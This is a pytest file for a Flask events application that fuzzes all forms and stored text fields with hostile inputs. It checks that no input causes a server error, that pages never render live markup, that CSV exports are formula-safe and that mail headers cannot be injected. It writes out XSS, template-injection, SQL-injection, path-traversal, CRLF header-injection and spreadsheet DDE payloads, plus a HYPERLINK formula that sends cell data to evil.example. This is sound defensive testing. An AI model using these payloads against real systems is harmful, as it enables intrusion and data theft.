"""Typed text is never markup, formula or header, and no input breaks a page."""

import csv
import io
from collections.abc import Iterator
from itertools import cycle
from typing import NamedTuple
from urllib.parse import urlencode, urljoin, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Connection, select, update
from sqlalchemy.orm import Session
from werkzeug.test import TestResponse

from eventsapp.core.db import Model, WordsColumn
from eventsapp.core.db import db as database
from eventsapp.core.spreadsheets import FORMULA_SIGNS
from eventsapp.core.words import Words
from tests.conftest import MailServer, deliver
from tests.promises import world as worlds
from tests.promises.test_roles import addresses
from tests.promises.world import World
from tests.visitor import FormOnPage, forms_on

pytestmark = pytest.mark.slow
SCRIPT = "<script>alert(90210)</script>"
ATTRIBUTE = "\"'><img src=x onerror=alert(90210)>"
#: None of these may stand in a page as they are; the last is what the template below would make.
LIVE = ("<script>alert(90210)", "<img src=x onerror=alert(90210)", "9449772114007")
HOSTILE = {
    "script": SCRIPT,
    "attribute": ATTRIBUTE,
    "address": "javascript:alert(90210)",
    "template": "{{1234567*7654321}} ${1234567*7654321} <%=1234567*7654321%> %(name)s {0} {event}",
    "zero": "a\x00b",
    "controls": "a\x01\x07\x08\x0b\x1b[31m\x7f\x85b",
    "long": "W" * 10_000,
    "lines": "a\r\nBcc: victim@example.org\r\n\r\nb",
    "right to left": "\u202eexe.fdp \u2066\u05e9\u05dc\u05d5\u05dd\u2069",
    "emoji": "👩🏽‍🚒🏳️‍🌈 e\u0301\u0301\u0301 \U0001f9ff",
    "surrogate": "a\ufffdb\ufeff\u2028c",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "statement": "'; DROP TABLE event; --",
    "path": "../../../../etc/passwd",
    "year 1": "0001-01-01",
    "year 1, an hour": "0001-01-01T00:00",
    "last year": "9999-12-31T23:59",
    "huge": "9" * 30,
    "negative": "-1",
    "beyond 64 bits": "9223372036854775808",
    "beyond 32 bits": "2147483648",
    "not a number": "NaN",
    "exponent": "1e400",
    "other digits": "٣",
    "spaces": " \u00a0\u3000 ",
    "empty": "",
    "like": "%_\\%",
}
#: Sent in every field of a form at once, too.
IN_ALL_FIELDS = {"script", "attribute", "zero", "controls", "long", "huge", "last year"}
UNKNOWN = {"is_admin": "1", "role": "administrator", "id": "1", "status": "open", "slug": "x"}
#: Who looks for forms: together they meet every form of the application.
ROLES = ("administrator", "anonymous", "person", "applicant", "expert", "reviewer")


class Found(NamedTuple):
    """A form, where it is sent to, and who may send it."""

    role: str
    target: str
    form: FormOnPage


@pytest.fixture
def world(app: Flask, db: Session) -> World:
    """Make the world anew for one test."""
    return worlds.build(app, db)


def test_no_input_breaks_any_form(app: Flask, world: World) -> None:
    forms = list(found_forms(app, world))
    broken = [
        (form.role, form.target, case, answer)
        for form in forms
        for case, body in bodies(form.form)
        if (answer := wrong_with(app, world, form, body))
    ]

    assert len(forms) > 50
    assert not broken


def test_stored_text_is_never_markup_formula_or_header(
    app: Flask, world: World, mails: MailServer
) -> None:
    client = browser(app, world, "administrator")
    hostile_everywhere(SCRIPT + ATTRIBUTE + "{{1234567*7654321}}")
    wrong = list(wrong_pages(app, world))
    hostile_everywhere('=HYPERLINK("http://evil.example")')
    tables = [
        list(csv.reader(io.StringIO(client.get(path).get_data(as_text=True).lstrip("\ufeff"))))
        for endpoint, path in addresses(app, "GET", world.own)
        if endpoint
        in {
            "events.export",
            "experts_manage.board_csv",
            "registration_manage.export",
            "experts_manage.nominations_csv",
        }
    ]
    hostile_everywhere("a\r\nBcc: victim@example.org\r\n\r\n<b>live</b>")
    base = f"/organise/events/{world.own['slug']}"
    told = client.post(f"{base}/postpone", data={"precision": "unknown"})
    client.post(f"{base}/practices/rounds/close")
    client.post(
        f"/events/{world.other['slug']}/register",
        data={"email": "new@example.org", "name": SCRIPT, "consent": "y"},
    )
    deliver()

    assert not wrong
    assert len(tables) == 4
    assert all(len(table) > 1 for table in tables)
    assert not [
        cell for table in tables for row in table for cell in row if cell.startswith(FORMULA_SIGNS)
    ]
    assert told.status_code == 302
    assert mails.mails
    for mail in mails.mails:
        assert mail["Bcc"] is None
        html = mail.get_body(("html",))
        assert html is not None
        assert not [mark for mark in (*LIVE, "<b>live") if mark in html.get_content()]


#: Texts of people that any letters may stand in; what is chosen from a list is not among them.
TEXTS = {
    "account": ("name", "affiliation"),
    "organization": ("name", "acronym"),
    "event": ("title", "summary", "purpose", "expected_outputs", "venue", "city", "region",
              "scope", "note", "place_as_given", "date_as_given", "search_text"),
    "event_room": ("name",),
    "agenda_item": ("title", "description", "guiding_questions", "number"),
    "call": ("profile",),
    "call_criterion": ("name",),
    "application": ("name", "affiliation", "statement", "interests", "sector"),
    "review": ("comment",),
    "nomination_invitation": ("body", "name"),
    "nominee": ("name", "affiliation", "position", "note"),
    "proposal": ("title", "problem", "description", "where_used", "evidence", "conditions"),
    "rating": ("comment",),
    "registration": ("name", "affiliation", "sector"),
    "report_remark": ("text",),
    "notice": ("subject",),
}  # fmt: skip


def hostile_everywhere(text: str) -> None:
    """Let every text that people type be hostile, however it came into the database."""
    session = database.session
    for table in Model.metadata.sorted_tables:
        for name in TEXTS.get(table.name, ()):
            column = table.columns[name]
            for key in session.scalars(select(table.c.id)).all():
                own = f"{text} {key}"
                value = Words.of(en=own) if isinstance(column.type, WordsColumn) else own
                session.execute(update(table).where(table.c.id == key).values({name: value}))
    session.commit()


def wrong_pages(app: Flask, world: World) -> Iterator[tuple[str, str, str]]:
    """Look at every page as everybody who may find something there."""
    for role in ROLES:
        for endpoint, path in addresses(app, "GET", world.own):
            told = fault(browser(app, world, role).get(path))
            if told:
                yield endpoint, role, told


def browser(app: Flask, world: World, role: str) -> FlaskClient:
    """Open the browser of somebody in a role."""
    client = app.test_client()
    if cookie := world.cookies[role]:
        client.set_cookie("session", cookie)
    return client


def found_forms(app: Flask, world: World) -> Iterator[Found]:
    """Find every form that can be posted, once, by looking at every page."""
    seen = set()
    for role in ROLES:
        for _endpoint, path in addresses(app, "GET", world.own):
            answer = browser(app, world, role).get(path)
            if answer.mimetype != "text/html":
                continue
            for form in forms_on(answer.text):
                for target in {button.action or form.action for button in form.buttons} or {""}:
                    where = urlsplit(urljoin(path, target)).path
                    key = where, tuple(sorted(form.names))
                    if form.method == "post" and where != "/logout" and key not in seen:
                        seen.add(key)
                        yield Found(role, where, form)


def bodies(form: FormOnPage) -> Iterator[tuple[str, str]]:
    """Fill in a form with each hostile text in one field by turns, and some in all fields."""
    usual = {**form.values}
    for button in form.buttons[:1]:
        if button.name:
            usual[button.name] = [button.value]
    names = [name for name in form.names if name != "csrf_token"]
    yield "nothing", ""
    yield "unknown fields", urlencode(usual | UNKNOWN, doseq=True)
    yield (
        "twice",
        urlencode({name: [*given, *given, "x"] for name, given in usual.items()}, doseq=True),
    )
    yield "bytes", "&".join(f"{name}=%ff%fe%00%80" for name in names) + "&%ff=%c0%af"
    turn = cycle(names)
    for case, text in HOSTILE.items() if names else ():
        if case in IN_ALL_FIELDS:
            yield case, urlencode({**usual, **dict.fromkeys(names, text)}, doseq=True)
        name = next(turn)
        yield f"{case} in {name}", urlencode({**usual, name: text}, doseq=True)


def wrong_with(app: Flask, world: World, found: Found, body: str) -> str:
    """Send a form, look at the page that follows, let nothing last; say what is wrong."""
    connection = database.engines[None]
    assert isinstance(connection, Connection)
    database.session.remove()
    with connection.begin_nested() as before:
        client = browser(app, world, found.role)
        kind = "application/x-www-form-urlencoded"
        answer = client.post(found.target, data=body, content_type=kind)
        told = fault(answer)
        if not told and answer.status_code == 302:
            told = fault(client.get(urljoin(found.target, answer.headers["Location"])))
        database.session.remove()
        before.rollback()
    return told


def fault(answer: TestResponse) -> str:
    """Say what is wrong with an answer, if anything."""
    if answer.status_code >= 500:
        return str(answer.status_code)
    if answer.mimetype == "text/html":
        return next((f"live {mark}" for mark in LIVE if mark in answer.text), "")
    return ""
